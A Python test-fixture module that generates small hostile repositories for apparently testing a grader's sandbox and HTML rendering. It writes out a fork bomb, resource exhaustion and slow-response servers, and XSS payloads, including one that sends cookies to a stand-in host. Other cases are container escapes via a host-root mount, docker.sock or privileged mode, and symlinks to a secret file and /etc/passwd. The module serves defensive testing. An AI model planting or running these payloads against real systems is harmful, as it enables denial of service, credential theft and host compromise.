"""The hostile submissions: one tiny repo per case, written into a folder by `make(case, parent)`.

Every image is one `COPY` on the locally present python:3.12-slim (nothing is pulled), so a build
takes seconds. Servers are the standard library's http.server so nothing is installed either.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from pathlib import Path

DOCKERFILE = """FROM python:3.12-slim
WORKDIR /app
COPY . .
EXPOSE 8000
CMD {cmd}
"""
PY_APP = '["python", "-u", "app.py"]'

# A server whose every answer is decided by one function; the cases below fill in `answer`.
SERVER = '''import http.server, json, os, socketserver, sys, threading, time

class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.0"

    def log_message(self, *args):
        pass

    def _any(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(min(length, 1 << 20)) if length else b""
        answer(self, body)

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = do_HEAD = _any

def send(handler, status, body, content_type="application/json", headers=()):
    handler.send_response(status)
    handler.send_header("Content-Type", content_type)
    handler.send_header("Content-Length", str(len(body)))
    for name, value in headers:
        handler.send_header(name, value)
    handler.end_headers()
    if handler.command != "HEAD":
        handler.wfile.write(body)

class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True

{body}

Server(("0.0.0.0", 8000), Handler).serve_forever()
'''

SMALL_SPEC = {
    "openapi": "3.0.3",
    "info": {"title": "items", "version": "1.0.0"},
    "paths": {
        "/items": {
            "get": {"summary": "list items", "responses": {"200": {"description": "the items",
                    "content": {"application/json": {"schema": {"type": "array", "items": {"type": "object"}}}}}}},
        },
    },
}

INJECTION = "<script>document.title='PWNED';alert('xss')</script>"
INJECTION_IMG = "<img src=x onerror=\"document.title='PWNED-IMG';alert(1)\">"
INJECTION_FETCH = "<script>fetch('http://127.0.0.1:9/steal?c='+document.cookie)</script>"
INJECTION_LINK = "[click me](javascript:alert('md'))"
INJECTION_PIXEL = "![pixel](http://127.0.0.1:9/pixel.png)"
INJECTION_NAME = "inj<img src=x onerror=alert(1)>"  # a folder name a browser would run (no slash possible)


@dataclass
class Case:
    name: str
    files: dict[str, str | bytes] = field(default_factory=dict)
    links: dict[str, str] = field(default_factory=dict)  # repo path -> link target
    sparse: dict[str, int] = field(default_factory=dict)  # repo path -> apparent size (no disk used)
    folder: str | None = None  # the repo folder's name (default: the case name)
    args: tuple[str, ...] = ()  # extra `grade` arguments (sandbox limits)


def _server(body: str) -> str:
    return SERVER.replace("{body}", body)


def _py_case(name: str, body: str, **kw) -> Case:
    return Case(name, {"Dockerfile": DOCKERFILE.format(cmd=PY_APP), "app.py": _server(body),
                       "README.md": f"# {name}\n\nRun with `docker build -t app . && docker run -p 8000:8000 app`.\n"},
                **kw)


def _cmd_case(name: str, cmd: str, **kw) -> Case:
    return Case(name, {"Dockerfile": DOCKERFILE.format(cmd=cmd), "README.md": f"# {name}\n"}, **kw)


def cases(secret_file: Path | None = None) -> dict[str, Case]:
    spec = json.dumps(SMALL_SPEC)
    out = [
        _cmd_case("fork_bomb", '["bash", "-c", ":(){ :|:& };:; exec python -m http.server 8000"]',
                  args=("--pids", "64")),
        Case("memory_hog", {"Dockerfile": DOCKERFILE.format(cmd='["python", "hog.py"]'),
                            "hog.py": "hog = []\nwhile True:\n    hog.append(bytearray(16 * 2**20))\n"},
             args=("--memory", "64m")),
        _cmd_case("cpu_spin", '["sh", "-c", "(while :; do :; done) & (while :; do :; done) & '
                              'exec python -m http.server 8000"]', args=("--cpus", "0.5")),
        _cmd_case("log_flood", '["sh", "-c", "yes portfolio-grader-log-flood-line-of-text-repeated-forever & '
                               'exec python -m http.server 8000"]'),
        _cmd_case("never_listens", '["sleep", "infinity"]'),
        _py_case("crash_after_first", '''
def answer(handler, body):
    send(handler, 200, b'{"ok": true}')
    handler.wfile.flush()
    threading.Timer(0.2, os._exit, (3,)).start()  # dies after its first answer
'''),
        _py_case("big_body", f'''
SPEC = {spec!r}.encode()
CHUNK = b"A" * (1 << 20)

def answer(handler, body):
    if handler.path.startswith("/openapi.json"):
        return send(handler, 200, SPEC)
    handler.send_response(200)
    handler.send_header("Content-Type", "application/json")
    handler.send_header("Content-Length", str(50 * len(CHUNK)))
    handler.end_headers()
    try:
        for _ in range(50):  # 50 MB
            handler.wfile.write(CHUNK)
    except OSError:
        pass
'''),
        _py_case("drip", '''
def answer(handler, body):
    handler.send_response(200)
    handler.send_header("Content-Type", "application/json")
    handler.end_headers()
    try:
        for _ in range(600):  # one byte a second for ten minutes
            handler.wfile.write(b" ")
            handler.wfile.flush()
            time.sleep(1)
    except OSError:
        pass
'''),
        _py_case("redirect_loop", '''
def answer(handler, body):
    send(handler, 302, b"", "text/plain", headers=[("Location", handler.path)])
'''),
        _py_case("binary", '''
GARBAGE = bytes(range(256)) * 16 + b"\\xff\\xfe\\x00\\xc3\\x28\\xa0\\xa1"

def answer(handler, body):
    send(handler, 200, GARBAGE, "application/json; charset=utf-8")
'''),
        _py_case("recursive_ref", f'''
SPEC = {json.dumps(recursive_spec())!r}.encode()
NODE = {{"id": 1, "name": "root", "children": [{{"id": 2, "name": "leaf", "children": []}}]}}

def answer(handler, body):
    if handler.path.startswith("/openapi.json"):
        return send(handler, 200, SPEC)
    if handler.command == "POST" and handler.path == "/nodes":
        return send(handler, 201, json.dumps(NODE).encode())
    if handler.command == "GET" and handler.path.startswith("/nodes/"):
        return send(handler, 200, json.dumps(NODE).encode())
    send(handler, 404, b'{{"detail": "not found"}}')
'''),
        _py_case("huge_spec", '''
SPEC = open("openapi.json", "rb").read()

def answer(handler, body):
    if handler.path.startswith("/openapi.json"):
        return send(handler, 200, SPEC)
    send(handler, 404, b'{"detail": "not found"}')
'''),
        _py_case("injection", injection_app(), folder=INJECTION_NAME),
        Case("missing_base", {"Dockerfile": "FROM portfolio-grader-hostile/no-such-image:404\nCMD [\"true\"]\n",
                              "README.md": "# missing base\n"}),
        Case("too_big", {"Dockerfile": DOCKERFILE.format(cmd='["sleep", "1"]'), "README.md": "# too big\n"},
             sparse={"data/big.bin": 210 * 2**20}),
        _compose_case("compose_root", "      - /:/host\n"),
        _compose_case("compose_socket", "      - /var/run/docker.sock:/var/run/docker.sock\n"),
        _compose_case("compose_privileged", "", extra="    privileged: true\n"),
    ]
    by_name = {case.name: case for case in out}
    by_name["huge_spec"].files["openapi.json"] = json.dumps(
        {**SMALL_SPEC, "x-padding": "A" * (10 * 2**20)}, indent=1)  # 10 MB, committed and served
    by_name["injection"].files["README.md"] = (
        f"# Injection {INJECTION}\n\n{INJECTION_IMG}\n\n{INJECTION_FETCH}\n\n{INJECTION_LINK}\n\n{INJECTION_PIXEL}\n\n"
        "<iframe src=\"http://127.0.0.1:9/frame\"></iframe>\n\nRun: `docker build -t app . && docker run app`\n")
    if secret_file is not None:
        by_name["symlink_escape"] = symlink_case(secret_file)
    return by_name


def _compose_case(name: str, volumes: str, extra: str = "") -> Case:
    compose = "services:\n  api:\n    build: .\n    ports:\n      - \"8000:8000\"\n" + extra
    if volumes:
        compose += "    volumes:\n" + volumes
    return Case(name, {"Dockerfile": DOCKERFILE.format(cmd='["python", "-m", "http.server", "8000"]'),
                       "docker-compose.yml": compose, "README.md": f"# {name}\n"})


def recursive_spec() -> dict:
    node = {"$ref": "#/components/schemas/Node"}
    return {
        "openapi": "3.0.3",
        "info": {"title": "tree", "version": "1.0.0"},
        "paths": {
            "/nodes": {"post": {"summary": "create", "requestBody": {"required": True, "content": {
                "application/json": {"schema": node}}}, "responses": {"201": {"description": "created",
                "content": {"application/json": {"schema": node}}}}}},
            "/nodes/{node_id}": {"get": {"summary": "read", "parameters": [{"name": "node_id", "in": "path",
                "required": True, "schema": {"type": "integer"}}], "responses": {"200": {"description": "one",
                "content": {"application/json": {"schema": node}}}, "404": {"description": "missing"}}}},
        },
        "components": {"schemas": {"Node": {"type": "object", "required": ["name"], "properties": {
            "id": {"type": "integer"}, "name": {"type": "string"},
            "children": {"type": "array", "items": {"$ref": "#/components/schemas/Node"}},
            "parent": {"$ref": "#/components/schemas/Node"}}}}},
    }


def injection_app() -> str:
    spec = {
        "openapi": "3.0.3",
        "info": {"title": f"Pets {INJECTION}", "version": "1.0.0",
                 "description": f"{INJECTION_IMG} {INJECTION_FETCH} {INJECTION_LINK}"},
        "paths": {
            "/items": {
                "get": {"summary": f"list {INJECTION}", "description": INJECTION_IMG,
                        "responses": {"200": {"description": INJECTION_FETCH, "content": {"application/json": {
                            "schema": {"type": "array", "items": {"type": "object"}}}}}}},
                "post": {"summary": f"create {INJECTION_IMG}", "operationId": "create<script>alert(3)</script>",
                         "requestBody": {"required": True, "content": {"application/json": {"schema": {
                             "type": "object", "required": ["name"],
                             "properties": {"name": {"type": "string", "description": INJECTION}}}}}},
                         "responses": {"201": {"description": "created", "content": {"application/json": {
                             "schema": {"type": "object", "properties": {"id": {"type": "integer"},
                                                                         "name": {"type": "string"}}}}}}}},
            },
            "/items/{item_id}": {
                "get": {"summary": INJECTION, "parameters": [{"name": "item_id", "in": "path", "required": True,
                                                               "schema": {"type": "integer"}}],
                        "responses": {"200": {"description": "one", "content": {"application/json": {
                            "schema": {"type": "object"}}}}, "404": {"description": INJECTION}}},
            },
        },
    }
    page = ("<html><body><h1>boom</h1>" + INJECTION + INJECTION_IMG + INJECTION_FETCH
            + 'Traceback (most recent call last):  File "app.py", line 1</body></html>')
    return f'''
SPEC = {json.dumps(spec)!r}.encode()
PAGE = {page!r}.encode()
ITEM = {json.dumps({"id": 1, "name": INJECTION + INJECTION_IMG})!r}.encode()
EVIL = [("X-Evil", {INJECTION!r}), ("X-Img", {INJECTION_IMG!r}), ("Set-Cookie", "a=<script>alert(4)</script>")]

def answer(handler, body):
    if handler.path.startswith("/openapi.json"):
        return send(handler, 200, SPEC, headers=EVIL)
    if handler.path == "/items" and handler.command == "POST":
        return send(handler, 201, ITEM, headers=EVIL)
    if handler.path == "/items":
        return send(handler, 200, b"[" + ITEM + b"]", headers=EVIL)
    if handler.path.startswith("/items/"):
        return send(handler, 500, PAGE, "text/html", headers=EVIL)  # an error page with a script in it
    send(handler, 404, PAGE, "text/html", headers=EVIL)
'''


def symlink_case(secret_file: Path) -> Case:
    """Links out of the repo (to a host file with a marker, and to /etc/passwd) that the Dockerfile COPYs."""
    dockerfile = ("FROM python:3.12-slim\nWORKDIR /app\nCOPY app.py .\nCOPY secret-link /app/secret.txt\n"
                  "COPY passwd-link /app/passwd.txt\nEXPOSE 8000\nCMD " + PY_APP + "\n")
    app = _server('''
def answer(handler, body):
    out = {}
    for name in ("/app/secret.txt", "/app/passwd.txt"):
        try:
            out[name] = open(name).read()
        except OSError as exc:
            out[name] = str(exc)
    send(handler, 200, json.dumps(out).encode())
''')
    return Case("symlink_escape", {"Dockerfile": dockerfile, "app.py": app},
                links={"secret-link": str(secret_file), "passwd-link": "/etc/passwd", "README.md": str(secret_file),
                       "openapi.yaml": str(secret_file), "docs/guide.md": "../../" + secret_file.name})


def make(case: Case, parent: Path) -> Path:
    """Write the case's repo under `parent`; returns its folder."""
    root = parent / (case.folder or case.name)
    root.mkdir(parents=True, exist_ok=True)
    for rel, content in case.files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)
    for rel, target in case.links.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, path)
    for rel, size in case.sparse.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "wb") as handle:
            handle.truncate(size)
    return root
